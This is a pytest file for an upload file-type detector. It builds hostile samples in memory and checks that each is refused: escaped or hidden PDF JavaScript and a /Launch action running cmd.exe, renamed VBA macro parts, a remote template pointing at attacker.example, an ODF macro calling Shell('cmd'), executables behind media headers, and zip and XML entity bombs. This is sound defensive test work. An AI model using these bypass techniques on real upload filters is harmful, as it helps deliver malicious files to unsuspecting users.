"""The hostile-file corpus: every upload bypass found by attacking psp (issue 15, finding 3)
and its variants, each made here in memory, never downloaded; and benign files of every
allowed type that must still be accepted."""

import io
import zipfile

import pytest
from pypdf import PdfWriter

from apprentices import filetypes
from apprentices.filetypes import FileTypeError, detect
from tests.apprentices import samples

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # a VBA project is an OLE file
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
ZIP_WITH_EXE = samples.zipped({"setup.exe": PE})
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
MB = 1024 * 1024


def kind_of(data: bytes):
    return detect(io.BytesIO(data), len(data))


def with_js(**pdf_options) -> bytes:
    return samples.pdf("Reflection", catalog=b"/OpenAction 20 0 R", **pdf_options)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("a-secret-password")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def nested(depth: int) -> bytes:
    data = samples.zipped({"notes.txt": "fictional"})
    for level in range(depth):
        data = samples.zipped({f"level{level}.zip": data})
    return data


def stored_bomb_docx() -> bytes:
    # Stored, so the docx itself expands only 1:1; the archive inside it expands 1000:1.
    bomb = samples.zipped({"zeros.txt": b"0" * (50 * MB)})
    name = "word/embeddings/bomb.zip"
    return samples.docx("Fictional", extra={name: bomb}, stored=(name,))


def many_members_docx() -> bytes:
    return samples.docx("Fictional", extra={f"word/media/part{n}.xml": "x" for n in range(10_001)})


ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    "<Types>&b;</Types>"
)
ODF_BASIC = {
    "Basic/Standard/Module1.xml": '<script:module>Sub Main Shell("cmd") End Sub</script:module>',
    "Basic/Standard/script-lb.xml": "<library/>",
}
EVENT_MACRO = (
    "<office:scripts><office:event-listeners><script:event-listener "
    'script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
    'Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>'
    "</office:scripts>"
)


HOSTILE = {
    # PDF: names written with #xx escapes.
    "pdf-js-name-hex-escaped": (
        with_js(objects={20: b"<</S/J#61vaScript/J#53(app.alert(1))>>"}),
        "JavaScript",
    ),
    "pdf-js-every-letter-escaped": (
        with_js(objects={20: b"<</S/#4a#61#76#61#53#63#72#69#70#74/#4A#53(app.alert(1))>>"}),
        "JavaScript",
    ),
    "pdf-launch-escaped": (
        with_js(objects={20: b"<</S/L#61unch/F(cmd.exe)>>"}),
        "starts a program",
    ),
    "pdf-richmedia-escaped": (
        samples.pdf("x", objects={20: b"<</Type/Annot/Subtype/Rich#4dedia/Rect[0 0 1 1]>>"}),
        "Flash",
    ),
    # PDF: inside a compressed object stream, where no byte pattern can see it.
    "pdf-js-in-object-stream": (with_js(compressed={20: JS}), "JavaScript"),
    "pdf-embedded-file-in-object-stream": (
        samples.pdf(
            "x",
            catalog=b"/Names 20 0 R",
            compressed={20: b"<</EmbeddedFiles<</Names[(a.exe) 21 0 R]>>>>", 21: b"<<>>"},
        ),
        "attached file",
    ),
    "pdf-page-aa-in-object-stream": (
        samples.pdf("x", compressed={20: b"<</Type/Annot/Subtype/Widget/AA<</E 21 0 R>>>>"}),
        "opened or closed",
    ),
    "pdf-xfa-in-object-stream": (
        samples.pdf("x", catalog=b"/AcroForm 20 0 R", compressed={20: b"<</Fields[]/XFA 21 0 R>>"}),
        "XFA",
    ),
    # PDF: past the first megabyte and before the last 64 KB.
    "pdf-js-past-first-mb": (
        with_js(
            objects={
                4: samples.stream_object(samples.noise(2 * MB, seed=1)),
                20: JS,
                30: samples.stream_object(samples.noise(2 * MB, seed=2)),
            }
        ),
        "JavaScript",
    ),
    # PDF: a clean file with an incremental update appended that adds the action.
    "pdf-incremental-update-adds-js": (
        samples.pdf_update(
            samples.pdf("x", objects={4: samples.stream_object(samples.noise(MB))}),
            {
                1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 40 0 R>>",
                40: b"<</S/JavaScr#69pt/J#53 41 0 R>>",
                41: samples.stream_object(b"app.alert(1)"),
            },
        ),
        "JavaScript",
    ),
    # PDF: an object the cross-reference table leaves out (a repairing reader finds it).
    "pdf-js-object-outside-xref": (
        samples.PDF + b"99 0 obj<</S/J#61vaScript/#4aS(app.alert(1))>>endobj\n%%EOF\n",
        "JavaScript",
    ),
    "pdf-password-protected": (encrypted_pdf(), "password"),
    "pdf-unparseable": (b"%PDF-1.7\n" + samples.noise(4096, seed=3) + b"\n%%EOF\n", "could not"),
    # OOXML: the VBA project renamed, declared in other letter case, or only in content.
    "docx-vba-part-renamed": (
        samples.docx(
            "x",
            relationships=(
                '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="media/image1.png"/>'
            ),
            extra={"word/media/image1.png": OLE},
        ),
        "macros",
    ),
    "docx-vba-part-renamed-undeclared": (
        samples.docx("x", extra={"word/media/image1.png": OLE}),
        "older-format Office part",
    ),
    "docx-vba-project-name-upper-case": (
        samples.docx("x", extra={"word/VBAPROJECT.BIN": b"not even OLE"}),
        "macros",
    ),
    "docx-macro-content-type-other-case": (
        samples.docx(
            "x",
            content_types=(
                '<Override PartName="/word/x.xml" ContentType="application/'
                'vnd.ms-word.document.MACROENABLED.main+xml"/>'
            ),
        ),
        "macro-enabled",
    ),
    "docx-vba-content-type-for-png": (
        samples.docx(
            "x",
            content_types=(
                '<Default Extension="png" ContentType="application/VND.MS-OFFICE.VBAPROJECT"/>'
            ),
        ),
        "macro-enabled",
    ),
    "docx-activex-control": (
        samples.docx(
            "x",
            content_types=(
                '<Override PartName="/word/activeX/activeX1.xml" '
                'ContentType="application/vnd.ms-office.activeX+xml"/>'
            ),
        ),
        "controls that run code",
    ),
    "docx-remote-template": (
        samples.docx(
            "x",
            relationships=(
                '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
                '2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
                'TargetMode="External"/>'
            ),
        ),
        "another address",
    ),
    # Archive members: letter case, content behind a harmless name, archives inside.
    "docx-setup-EXE-member": (
        samples.docx("x", extra={"word/embeddings/setup.EXE": b"text"}),
        "program or script",
    ),
    "docx-program-named-as-image": (
        samples.docx("x", extra={"word/media/logo.png": PE}),
        "whatever its name",
    ),
    "docx-elf-named-as-xml": (
        samples.docx("x", extra={"customXml/item1.xml": ELF}),
        "whatever its name",
    ),
    "docx-nested-archive-with-exe": (
        samples.docx("x", extra={"word/embeddings/package.zip": ZIP_WITH_EXE}),
        "program or script",
    ),
    "docx-nested-archive-without-extension": (
        samples.docx("x", extra={"word/embeddings/oleObject1.bin": ZIP_WITH_EXE}),
        "program or script",
    ),
    "docx-embedded-macro-workbook": (
        samples.docx("x", extra={"word/embeddings/Sheet1.xlsx": samples.office(macro=True)}),
        "macro-enabled",
    ),
    "docx-embedded-odt-with-basic": (
        samples.docx("x", extra={"word/embeddings/doc.odt": samples.odt("x", extra=ODF_BASIC)}),
        "macros or scripts",
    ),
    "docx-stored-zip-bomb": (stored_bomb_docx(), "zip bomb"),
    "docx-archives-nested-too-deeply": (
        samples.docx("x", extra={"word/embeddings/a.zip": nested(3)}),
        "too deeply",
    ),
    "docx-too-many-members": (many_members_docx(), "too many parts"),
    "docx-xml-entity-expansion": (
        samples.zipped({"[Content_Types].xml": ENTITY_BOMB, "word/document.xml": "<d/>"}),
        "XML features",
    ),
    "docx-same-part-twice-in-other-case": (
        samples.docx("x", extra={"WORD/DOCUMENT.XML": "<d/>"}),
        "same name",
    ),
    # OpenDocument: Basic macros, in any letter case, declared or not, and event bindings.
    "odt-basic-macro": (
        samples.odt(
            "x",
            manifest_entries=(
                '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" '
                'manifest:media-type="text/xml"/>'
            ),
            extra=ODF_BASIC,
        ),
        "macros or scripts",
    ),
    "odt-basic-macro-other-case": (
        samples.odt("x", extra={"BASIC/standard/module1.xml": "<m/>"}),
        "macros or scripts",
    ),
    "odt-script-declared-in-manifest-only": (
        samples.odt(
            "x",
            manifest_entries=(
                '<manifest:file-entry manifest:full-path="Scripts/python/" '
                'manifest:media-type="application/binary"/>'
            ),
        ),
        "macros or scripts",
    ),
    "odt-macro-bound-to-opening": (samples.odt("x", body_extra=EVENT_MACRO), "macros or scripts"),
    # Media: a zip, PE or ELF file behind the few bytes that name a media type.
    "wav-header-then-pe": (b"RIFF\x00\x10\x00\x00WAVE" + PE, "not one"),
    "avi-header-then-elf": (b"RIFF\x00\x10\x00\x00AVI " + ELF, "not one"),
    "mp4-ftyp-then-zip": (
        samples.box(b"ftyp", b"isom\x00\x00\x02\x00isom") + ZIP_WITH_EXE,
        "disguised|damaged",
    ),
    "mov-ftyp-then-pe": (samples.box(b"ftyp", b"qt  \x00\x00\x02\x00qt  ") + PE, "not one"),
    "m4a-ftyp-then-elf": (samples.box(b"ftyp", b"M4A \x00\x00\x02\x00M4A ") + ELF, "not one"),
    "ogg-magic-then-elf": (b"OggS\x00\x02" + ELF, "not one"),
    "webm-magic-then-zip": (b"\x1a\x45\xdf\xa3" + ZIP_WITH_EXE, "disguised|damaged"),
    "mp3-id3-then-pe": (b"ID3\x03\x00\x00\x00\x00\x00\x00" + PE, "not one"),
    "mp3-frame-sync-then-zip": (b"\xff\xfb" + ZIP_WITH_EXE, "disguised|damaged"),
    "jpeg-magic-then-zip": (b"\xff\xd8\xff\xe0" + ZIP_WITH_EXE + b"\xff\xd9", "damaged"),
    "png-magic-then-elf": (b"\x89PNG\r\n\x1a\n" + ELF + b"IEND\xaeB`\x82", "damaged"),
    "real-mp4-with-zip-appended": (samples.mp4() + ZIP_WITH_EXE, "disguised|damaged"),
    "real-wav-with-pe-appended": (samples.wav() + PE, "not one"),
    # Text: markup anywhere in the file, not only in its first and last 64 KB.
    "text-with-script-in-the-middle": (
        samples.TEXT * 4000 + b"<script>alert(1)</script>\n" + samples.TEXT * 4000,
        "web page markup or script",
    ),
}

BENIGN = {
    "pdf": (samples.PDF, filetypes.PDF),
    "pdf-several-pages": (samples.pdf("One", "Two", "Three"), filetypes.PDF),
    "pdf-object-streams": (
        samples.pdf("x", compressed={20: b"<</Title(Fictional)>>"}),
        filetypes.PDF,
    ),
    "pdf-opens-at-a-page": (
        samples.pdf("x", catalog=b"/OpenAction[10 0 R/Fit]"),
        filetypes.PDF,
    ),
    "pdf-with-link": (
        samples.pdf(
            "x", objects={20: b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example)>>>>"}
        ),
        filetypes.PDF,
    ),
    "pdf-large-with-binary-streams": (
        samples.pdf("x", objects={4: samples.stream_object(samples.noise(3 * MB, seed=4))}),
        filetypes.PDF,
    ),
    "pdf-incremental-update": (
        samples.pdf_update(samples.PDF, {20: b"<</Title(Edited)>>"}),
        filetypes.PDF,
    ),
    "docx": (samples.docx("A fictional reflection."), filetypes.DOCX),
    "docx-with-hyperlink-and-image": (
        samples.docx(
            "x",
            relationships=(
                '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/'
                '2006/relationships/hyperlink" Target="https://a.example" TargetMode="External"/>'
            ),
            extra={"word/media/image1.png": samples.PNG},
        ),
        filetypes.DOCX,
    ),
    "docx-with-embedded-xlsx": (
        samples.docx("x", extra={"word/embeddings/Sheet1.xlsx": samples.office("xl/wb.xml")}),
        filetypes.DOCX,
    ),
    "xlsx": (samples.office("xl/workbook.xml"), filetypes.XLSX),
    "pptx": (samples.office("ppt/presentation.xml"), filetypes.PPTX),
    "odt": (samples.odt("A fictional reflection.", body_extra="<office:scripts/>"), filetypes.ODT),
    "png": (samples.PNG, filetypes.PNG),
    "jpeg": (samples.JPEG, filetypes.JPEG),
    "jpeg-with-exif": (samples.image("JPEG", exif=True), filetypes.JPEG),
    "wav": (samples.wav(), filetypes.WAV),
    "avi": (samples.avi(), filetypes.AVI),
    "mp4": (samples.mp4(), filetypes.MP4),
    "mov": (samples.mp4(b"qt  "), filetypes.MOV),
    "m4a": (samples.mp4(b"M4A "), filetypes.M4A),
    "ogg": (samples.ogg(), filetypes.OGG),
    "webm": (samples.webm(), filetypes.WEBM),
    "mp3": (samples.mp3(), filetypes.MP3),
    "mp3-without-tag": (samples.mp3(id3=False), filetypes.MP3),
    "text": (samples.TEXT, filetypes.TEXT),
    "text-large": (samples.TEXT * 8000, filetypes.TEXT),
}


@pytest.mark.parametrize(("data", "reason"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_file_is_refused_with_its_reason(data, reason):
    with pytest.raises(FileTypeError, match=reason) as refused:
        kind_of(data)
    # Every refusal says what to do, in words for the apprentice.
    assert len(str(refused.value)) > 30


@pytest.mark.parametrize(("data", "expected"), BENIGN.values(), ids=BENIGN.keys())
def test_benign_file_of_each_type_is_accepted(data, expected):
    assert kind_of(data) is expected


def test_pdf_past_the_first_megabyte_really_is_that_large():
    data, _ = HOSTILE["pdf-js-past-first-mb"]
    position = data.index(b"/JS(")
    assert MB < position < len(data) - 64 * 1024


def test_stored_bomb_is_stored_so_the_docx_alone_does_not_look_like_a_bomb():
    data, _ = HOSTILE["docx-stored-zip-bomb"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        declared = sum(entry.file_size for entry in archive.infolist())
    assert declared < 2 * len(data)


def test_js_in_object_stream_is_not_visible_in_the_bytes():
    data, _ = HOSTILE["pdf-js-in-object-stream"]
    assert b"JavaScript" not in data
    assert b"/JS" not in data


def test_mp3_frame_lengths_are_read_from_the_header():
    # 128 kbit/s at 44.1 kHz, MPEG-1 layer III: 417 bytes a frame.
    assert filetypes._mp3_frame_length(samples.MP3_FRAME[:4]) == 417


def test_a_bookmark_title_that_mentions_short_names_is_not_refused():
    data = samples.pdf(
        "x", catalog=b"/Outlines 20 0 R", objects={20: b"<</Title(Pack of /AA /JS)>>"}
    )
    assert kind_of(data) is filetypes.PDF
